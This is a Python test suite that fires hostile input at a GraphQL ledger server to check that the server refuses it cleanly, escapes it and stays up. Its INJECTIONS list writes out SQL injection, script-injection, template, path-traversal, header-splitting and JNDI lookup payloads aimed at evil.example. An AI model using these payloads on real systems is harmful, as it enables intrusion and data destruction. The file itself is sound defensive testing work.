"""Hostile input against the running server, on SQLite and PostgreSQL: oversized bodies, deep and wide queries,
huge numbers, invalid UTF-8, malformed linked data, and injection attempts in every string field of every mutation.

Every answer must be a clear error with a code (or, for injection strings that are valid text, the text stored
exactly as sent and shown escaped), nothing may be written by a refused request, and the server must stay up.
The generated-request fuzz is in test_graphql_fuzz.py; both report their figures to the README's Reliability
section through `python bench/reliability.py`.
"""

from __future__ import annotations

import copy
import json
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
import rdflib
from e2e_support import Server, cli, report
from malformed_linked import MALFORMED
from sqlalchemy import create_engine, func, select
from sqlalchemy.engine import Engine

from graphql import (
    GraphQLEnumType,
    GraphQLInputObjectType,
    GraphQLInputType,
    GraphQLList,
    GraphQLNonNull,
    GraphQLScalarType,
    get_named_type,
    get_nullable_type,
)
from valueflows.api.gql.schema import MAX_ALIASES, MAX_DEPTH, schema
from valueflows.api.graphql_http import MAX_BODY
from valueflows.linkeddata.contexts import document_loader
from valueflows.linkeddata.parsing import parse
from valueflows.store.tables import ledger as chain

pytestmark = pytest.mark.slow

# Injection attempts: SQL, markup, templates, paths, headers, RDF syntax, control and direction characters.
INJECTIONS = [
    "' OR '1'='1", "'; DROP TABLE economic_events; --", "1); SELECT pg_sleep(10); --", '" OR ""="',
    "<script>alert('vf')</script>", '"><img src=x onerror=alert(1)>', "{{7*7}}${7*7}<%= 7*7 %>",
    "../../../../etc/passwd", "line\r\nSet-Cookie: injected=1",
    '" . <https://evil.example/s> <https://evil.example/p> "x', "> <https://evil.example/p> _:b0 .",
    "\u202eevil\u0000", "${jndi:ldap://evil.example/a}", "😀\u200d\ufeff", "A" * 3000,
]
ADMIN = "atelier"
STRING_SCALARS = {"String", "ID", "URI"}
# A valid request for the creates, so that injection strings in their optional fields reach the database.
WHEN = "2026-06-01T10:00:00Z"
VALID: dict[str, dict[str, Any]] = {
    "createPerson": {"person": {"name": "Probe person"}},
    "createOrganization": {"organization": {"name": "Probe org"}},
    "createResourceSpecification": {"resourceSpecification": {"name": "Probe spec"}},
    "createProcessSpecification": {"processSpecification": {"name": "Probe process spec"}},
    "createProcess": {"process": {"name": "Probe process"}},
    "createUnit": {"unit": {"label": "probe", "symbol": "pb"}},
    "createAgentRelationshipRole": {"agentRelationshipRole": {"roleLabel": "probe"}},
    "createProductBatch": {"productBatch": {"batchNumber": "B-1"}},
    "createEconomicEvent": {"event": {"action": "work", "provider": "ana", "receiver": "atelier",
                                      "hasPointInTime": WHEN, "effortQuantity": {"hasDecimalValue": "1",
                                                                                 "hasUnit": "hour"}}},
}
FILLER = {"String": "probe", "ID": "probe", "URI": "https://example.org/probe", "DateTime": WHEN,
          "Date": "2026-06-01", "Decimal": "1", "Int": 1, "Float": 1.0, "Boolean": False}


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def target(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    workdir: Path = tmp_path_factory.mktemp("hostile")
    db = f"sqlite:///{workdir / 'ledger.db'}" if request.param == "sqlite" else request.getfixturevalue(
        "pg_schemas")()
    assert cli("demo", "--db", db, cwd=workdir).returncode == 0
    token = json.loads(cli("token", "create", "--agent", ADMIN, "--scope", "admin", "--json", "--db", db,
                           cwd=workdir).stdout)["token"]
    engine = create_engine(db)
    server = Server(workdir, "--db", db)
    server.start()
    with httpx.Client(base_url=server.base, timeout=30, headers={"Authorization": f"Bearer {token}"}) as client:
        yield {"client": client, "engine": engine, "server": server, "base": server.base, "db": db,
               "workdir": workdir, "database": request.param}
    server.stop()
    engine.dispose()


def chain_length(engine: Engine) -> int:
    with engine.connect() as conn:
        return int(conn.scalar(select(func.count()).select_from(chain)) or 0)


def clear(response: httpx.Response) -> dict[str, Any]:
    """A clear answer: no 5xx, no stack trace, JSON, and every error with a code that is not an internal one."""
    assert response.status_code < 500, response.text[:500]
    assert "Traceback" not in response.text and 'File "' not in response.text
    body = response.json()
    assert isinstance(body, dict)
    errors = body.get("errors") or ([body["error"]] if "error" in body else [])
    for error in errors:
        code = (error.get("extensions") or {}).get("code") or error.get("code")
        assert code and code not in ("INTERNAL_SERVER_ERROR", "INTERNAL"), error
        assert error.get("message")
        # The database's own refusal is a safety net; the ledger's rules must catch a bad value before it.
        assert "does not fit the ledger" not in error["message"], error
    return body


def refused(response: httpx.Response) -> str:
    body = clear(response)
    errors = body.get("errors") or ([body["error"]] if "error" in body else [])
    assert errors, f"accepted: {response.text[:300]}"
    first = errors[0]
    return str((first.get("extensions") or {}).get("code") or first.get("code"))


def still_up(t: dict[str, Any]) -> None:
    assert t["server"].alive
    assert t["client"].get("/health").status_code == 200


def gql(t: dict[str, Any], query: str, **variables: Any) -> httpx.Response:
    return t["client"].post("/graphql", json={"query": query, "variables": variables})


def raw_status(t: dict[str, Any], request: bytes) -> int:
    """Send bytes no HTTP client library would send; the status code of the answer."""
    with socket.create_connection(("127.0.0.1", t["server"].port), timeout=10) as sock:
        try:
            sock.sendall(request)
            head = sock.recv(64)
        except ConnectionError:  # the server closed the connection while we were still sending
            return 0
    return int(head.split()[1]) if head else 0


def refused_early(call: Any) -> bool:
    """A body refused before it was read: 413, or (when the server answered and closed the connection while the
    client was still sending, which the timing of a loaded machine decides) a connection closed by the server."""
    try:
        return bool(call().status_code == 413)
    except (httpx.WriteError, httpx.ReadError, httpx.RemoteProtocolError):
        return True


# -- sizes ---------------------------------------------------------------------------------------------------------

def test_oversized_bodies_are_refused_before_they_are_read(target: dict[str, Any]) -> None:
    t, before, sent = target, chain_length(target["engine"]), 0
    c: httpx.Client = t["client"]
    big = json.dumps({"query": "{ actions { id } }", "variables": {"x": "a" * (MAX_BODY + 10)}}).encode()
    headers = {"content-type": "application/json"}
    assert refused_early(lambda: c.post("/graphql", content=big, headers=headers))
    assert refused_early(lambda: c.post("/graphql", content=iter([big[i:i + 8192] for i in range(0, len(big), 8192)]),
                                        headers=headers))  # chunked: no declared length
    chunk = b"<a> <b> <c> .\n" * 100_000
    assert refused_early(lambda: c.post("/import", content=iter([chunk] * 40),
                                        headers={"content-type": "application/n-triples"}))  # 56 MB, streamed
    assert raw_status(t, b"POST /import HTTP/1.1\r\nHost: x\r\nContent-Type: application/n-triples\r\n"
                         b"Authorization: " + c.headers["authorization"].encode() +
                      b"\r\nContent-Length: 60000000\r\n\r\n<a> <b> <c> .\n") == 413  # a declared size is enough
    sent += 4
    assert c.get("/events", params={"agent": "a" * 60_000}).status_code == 200  # a long filter finds nothing
    for raw in (b"GET /agents/" + b"a" * 100_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
                b"GET /health HTTP/1.1\r\nHost: x\r\nX-Junk: " + b"j" * 200_000 + b"\r\n\r\n",
                b"GET /health HTTP/1.1\r\nHost: x\r\n" + b"X-A: b\r\n" * 20_000 + b"\r\n"):
        assert raw_status(t, raw) in (0, 400, 404, 413, 414, 431)  # 0: the connection was closed unanswered
    sent += 4
    assert chain_length(t["engine"]) == before
    still_up(t)
    report(f"hostile_{t['database']}", oversized=sent)


def test_deep_wide_and_recursive_documents_are_refused(target: dict[str, Any]) -> None:
    t, before = target, chain_length(target["engine"])
    deep = ("{ economicEvents { edges { node { " + "triggeredBy { " * MAX_DEPTH + "id" + " }" * MAX_DEPTH
            + " } } } }")
    very_deep = "{ economicEvents { edges { node { " + "triggeredBy { " * 20_000 + "id" + " }" * 20_000 + " } } } }"
    aliases = "{ " + " ".join(f"a{i}: actions {{ id }}" for i in range(MAX_ALIASES + 1)) + " }"
    many = "{ " + " ".join(f"a{i}: __typename" for i in range(20_000)) + " }"
    fragments = "query { ...F0 } " + " ".join(  # 2^30 fields once expanded
        f"fragment F{i} on Query {{ ...F{i + 1} ...F{i + 1} }}" for i in range(30)) + \
        " fragment F30 on Query { actions { id } }"
    cycle = "query { ...A } fragment A on Query { ...B } fragment B on Query { ...A }"
    introspection = "{ __schema { types { fields { type { ofType { ofType { ofType { ofType { ofType { ofType " \
                    "{ ofType { ofType { ofType { name } } } } } } } } } } } } }"
    directives = "{ actions @include(if: true) " + "@skip(if: false) " * 3000 + "{ id } }"
    documents = [deep, very_deep, aliases, many, fragments, cycle, introspection, directives,
                 "mutation { a: deleteUnit(revisionId: \"x\") b: deleteUnit(revisionId: \"y\") }", "{" * 50_000,
                 "query " * 40_000]
    codes = []
    for document in documents:
        codes.append(refused(gql(t, document)) if len(document) < MAX_BODY else
                     str(t["client"].post("/graphql", json={"query": document}).status_code))
    assert set(codes) <= {"GRAPHQL_VALIDATION_FAILED", "GRAPHQL_PARSE_FAILED", "BAD_USER_INPUT", "413"}, codes
    # A batch (a JSON array of operations) is refused as a whole.
    assert refused(t["client"].post("/graphql", json=[{"query": "{ actions { id } }"}] * 100)) == "BAD_REQUEST"
    assert chain_length(t["engine"]) == before
    still_up(t)
    report(f"hostile_{t['database']}", documents=len(documents) + 1)


# -- numbers and encodings -------------------------------------------------------------------------------------------

EVENT = """mutation($e: EconomicEventCreateParams!) { createEconomicEvent(event: $e) { economicEvent { id } } }"""


def work(**quantity: Any) -> dict[str, Any]:
    return {"action": "work", "provider": "ana", "receiver": "atelier", "hasPointInTime": WHEN,
            "effortQuantity": {"hasUnit": "hour", **quantity}}


def test_huge_and_strange_numbers_are_refused(target: dict[str, Any]) -> None:
    t, before = target, chain_length(target["engine"])
    c: httpx.Client = t["client"]
    decimals = ["9" * 1000, "1e999999999", "-1", "NaN", "sNaN", "Infinity", "0." + "0" * 500 + "1", "1_000",
                "\uff11\uff12", "0x10", " 1", "1,5", "", "1e-999999999"]
    for value in decimals:
        refused(gql(t, EVENT, e=work(hasDecimalValue=value)))
    raw = [b'{"query": "%s", "variables": {"e": %s}}' % (EVENT.encode(), json.dumps(work()).encode().replace(
        b'"hour"}', b'"hour", "hasNumericalValue": ' + number + b"}")) for number in (
        b"1e999", b"-1e999", b"9" * 5000, b"1" + b"0" * 400, b"NaN", b"Infinity", b"true", b"[1]", b"-5")]
    for body in raw:  # a Float in the legacy API; the main API's Decimal is sent as text
        refused(c.post("/graphql/0.8", content=body, headers={"content-type": "application/json"}))
        refused(c.post("/graphql", content=body, headers={"content-type": "application/json"}))
    for text in ("1e999", "NaN", "Infinity", "9" * 5000, "", "1,5"):
        refused(gql(t, EVENT, e=work(hasNumericalValue=text)))
    for n in ("2147483648", "-2147483649", "9" * 40):
        refused(gql(t, f"{{ economicEvents(first: {n}) {{ edges {{ cursor }} }} }}"))
        refused(c.post("/graphql/0.8", json={"query": f"{{ economicEvents(limit: {n}) {{ id }} }}"}))
        refused(c.get("/events", params={"limit": n + "x"}))
    assert chain_length(t["engine"]) == before
    still_up(t)
    report(f"hostile_{t['database']}", numbers=len(decimals) + len(raw) + 6)


def test_invalid_utf8_and_bad_encodings_are_refused(target: dict[str, Any]) -> None:
    t, before = target, chain_length(target["engine"])
    c: httpx.Client = t["client"]
    bad = [b"\xff\xfe{}", b'{"query": "{ actions { id } }\xc0\xaf"}', b'{"query": "\xed\xa0\x80"}',
           b'{"query": "{ agent(id: \\"\xf8\x88\x80\x80\x80\\") { id } }"}', b"\x00" * 10,
           '{"query": "{ actions { id } }"}'.encode("utf-16"),
           b'{"query": "{ actions { id } }", "variables": {"x": "\\ud800"}}',
           b'{"query": "{ agent(id: \\"\\ud800\\") { id } }"}']
    for body in bad:
        answer = c.post("/graphql", content=body, headers={"content-type": "application/json"})
        assert answer.status_code < 500 and "Traceback" not in answer.text
        refused(answer)
    # Text no database can store, in any string of the operation: refused before anything runs.
    for bad_text, words in (("\ud800", "lone surrogate"), ("a\x00b", "NUL")):
        for e in ({**work(hasDecimalValue="1"), "note": bad_text},
                  {**work(hasDecimalValue="1"), "resourceClassifiedAs": [f"https://example.org/{bad_text}"]}):
            answer = c.post("/graphql", content=json.dumps({"query": EVENT, "variables": {"e": e}}),
                            headers={"content-type": "application/json"})
            assert refused(answer) == "BAD_USER_INPUT" and words in answer.text
    literal = 'mutation { createPerson(person: {name: "Ana\\u0000"}) { agent { id } } }'
    assert refused(gql(t, literal)) == "BAD_USER_INPUT"
    for fmt, body in (("application/ld+json", b'{"@graph": [\xff]}'), ("text/turtle", b"<a> <b> \"\xc3\x28\" ."),
                      ("application/n-triples", b"<a> <b> \"\xed\xa0\x80\" .\n")):
        assert refused(c.post("/import", content=body, headers={"content-type": fmt})) == "BAD_USER_INPUT"
    for path in ("/agents/%FF%FE", "/agents/%ED%A0%80", "/agents/a%00b", "/events?agent=%ED%A0%80",
                 "/events?from=%FF", "/dividends/%00", "/shop/%ED%A0%80", "/licences/%FF"):
        answer = c.get(path)
        assert answer.status_code < 500 and "Traceback" not in answer.text, (path, answer.text[:200])
    for header in (b"Bearer \xff\xfe", b"Bearer vf_\xe2\x80\xae_x", b"Basic \xc3\x28"):
        answer = c.post("/graphql", json={"query": "{ actions { id } }"}, headers={"authorization": header})
        assert refused(answer) == "UNAUTHENTICATED"
    assert chain_length(t["engine"]) == before
    still_up(t)
    report(f"hostile_{t['database']}", encodings=len(bad) + 5 + 3 + 8 + 3)


# -- malformed linked data, over HTTP --------------------------------------------------------------------------------

MEDIA = {"jsonld": "application/ld+json", "turtle": "text/turtle", "nt": "application/n-triples"}


def test_malformed_linked_data_is_refused_whole_over_http(target: dict[str, Any]) -> None:
    t, before = target, chain_length(target["engine"])
    for case, data, fmt, words in MALFORMED:
        for record in ("agents/ana", "agents/coop", "specifications/steel", "resources/stock", "events/e"):
            data = data.replace(f"x.org/{record}", f"x.org/{record.replace('/', '/hostile-')}")  # not demo ids
        answer = t["client"].post("/import", content=data.encode("utf-8", "surrogatepass"),
                                  headers={"content-type": MEDIA.get(fmt, "application/rdf+xml")})
        if fmt not in MEDIA:
            assert answer.status_code == 415, case
            continue
        assert refused(answer) == "BAD_USER_INPUT", case
        assert words.lower() in answer.text.lower() or words.lower() in json.dumps(answer.json()).lower(), (
            case, answer.text[:300])
    assert chain_length(t["engine"]) == before
    still_up(t)
    report(f"hostile_{t['database']}", malformed_linked_data=len(MALFORMED))


# -- injection in every string field -----------------------------------------------------------------------------------

def string_leaves(kind: GraphQLInputType, path: tuple[str | int, ...], depth: int = 0) -> Iterator[
        tuple[tuple[str | int, ...], bool]]:
    """Every String, ID or URI an argument can hold: (path, is a list item)."""
    inner = get_nullable_type(kind)
    if isinstance(inner, GraphQLList):
        for sub, _ in string_leaves(inner.of_type, (*path, 0), depth):
            yield sub, True
        return
    if isinstance(inner, GraphQLInputObjectType):
        if depth < 3:
            for name, f in inner.fields.items():
                yield from string_leaves(f.type, (*path, name), depth + 1)
        return
    if isinstance(inner, GraphQLScalarType) and inner.name in STRING_SCALARS:
        yield path, False


def filled(kind: GraphQLInputType) -> Any:
    """A value for a required argument or field: the fields it requires, each with a plain value."""
    inner = get_nullable_type(kind)
    if isinstance(inner, GraphQLList):
        return [filled(inner.of_type)]
    if isinstance(inner, GraphQLInputObjectType):
        return {n: filled(f.type) for n, f in inner.fields.items() if isinstance(f.type, GraphQLNonNull)}
    if isinstance(inner, GraphQLEnumType):
        return next(iter(inner.values))
    return FILLER.get(get_named_type(inner).name, "probe")


def put(node: Any, path: tuple[str | int, ...], value: Any) -> None:
    """Set the leaf at `path` (an int step: the only item of a list), making the containers on the way."""
    step, rest = path[0], path[1:]
    if isinstance(step, int):  # node is a list
        if not rest:
            node[:] = [value]
            return
        if not node or not isinstance(node[0], dict | list):
            node[:] = [[] if isinstance(rest[0], int) else {}]
        put(node[0], rest, value)
        return
    if not rest:
        node[step] = value
        return
    if not isinstance(node.get(step), dict | list):
        node[step] = [] if isinstance(rest[0], int) else {}
    put(node[step], rest, value)


ALWAYS = INJECTIONS[:2] + INJECTIONS[4:5]  # SQL and markup: into every string field
ROTATING = [i for i in INJECTIONS if i not in ALWAYS]
PER_FIELD = 3  # of the others, in turn: each of them reaches many fields of many mutations


def injection_requests() -> Iterator[tuple[str, str, dict[str, Any]]]:
    mutations = schema._schema.mutation_type
    assert mutations is not None
    assert set(VALID) <= set(mutations.fields), set(VALID) - set(mutations.fields)
    turn = 0
    for name, f in mutations.fields.items():
        base = VALID.get(name) or {a: filled(arg.type) for a, arg in f.args.items()
                                   if isinstance(arg.type, GraphQLNonNull)}
        for arg_name, arg in f.args.items():
            for path, _ in string_leaves(arg.type, (arg_name,)):
                others = [ROTATING[(turn + k) % len(ROTATING)] for k in range(PER_FIELD)]
                turn += PER_FIELD
                for injection in ALWAYS + others:
                    variables = copy.deepcopy(base)
                    if arg_name not in variables:
                        variables[arg_name] = filled(arg.type)
                    put(variables, path, injection)
                    used = [a for a in f.args if a in variables]
                    signature = ", ".join(f"${a}: {f.args[a].type}" for a in used)
                    selection = "" if isinstance(get_named_type(f.type), GraphQLScalarType) else " { __typename }"
                    call = ", ".join(f"{a}: ${a}" for a in used)
                    yield name, f"mutation({signature}) {{ {name}({call}){selection} }}", variables


def test_injection_in_every_string_field(target: dict[str, Any]) -> None:
    t = target
    c: httpx.Client = t["client"]
    accepted, refusals, fields = 0, 0, set()
    with httpx.Client(base_url=t["base"], timeout=5, headers=dict(c.headers)) as quick:  # pg_sleep would time out
        for name, document, variables in injection_requests():
            before = chain_length(t["engine"])
            answer = quick.post("/graphql", json={"query": document, "variables": variables})
            body = clear(answer)
            fields.add((name, json.dumps(sorted(variables))))
            if body.get("errors"):
                refusals += 1
                assert chain_length(t["engine"]) == before, (name, variables, body)
            else:
                accepted += 1
    assert accepted > 100 and refusals > 100, (accepted, refusals)
    # Nothing was dropped or bent: the chain verifies, and every export still parses.
    assert c.get("/verify").json()["ok"]
    exported = {fmt: c.get("/export", params={"format": fmt}).text for fmt in ("nt", "turtle", "jsonld")}
    graphs = {fmt: parse(text, fmt, document_loader) for fmt, text in exported.items()}
    assert len(graphs["nt"]) == len(graphs["turtle"]) == len(graphs["jsonld"])
    literals = {str(o) for _, _, o in graphs["nt"] if isinstance(o, rdflib.Literal)}
    stored = [i for i in INJECTIONS if i in literals]
    assert "' OR '1'='1" in stored and "<script>alert('vf')</script>" in stored  # kept exactly, as data
    # Markup is shown as text on every record page that holds it.
    pages = 0
    for subject in {s for s, _, o in graphs["nt"] if "<script>" in str(o)}:
        page = c.get(str(subject), headers={"accept": "text/html"})
        assert page.status_code == 200 and "<script>alert" not in page.text and "&lt;script&gt;" in page.text
        pages += 1
    assert pages > 0
    still_up(t)
    report(f"hostile_{t['database']}", injection_requests=accepted + refusals, injection_accepted_as_text=accepted,
           injection_refused=refusals, injection_strings=len(INJECTIONS), html_pages_checked=pages)
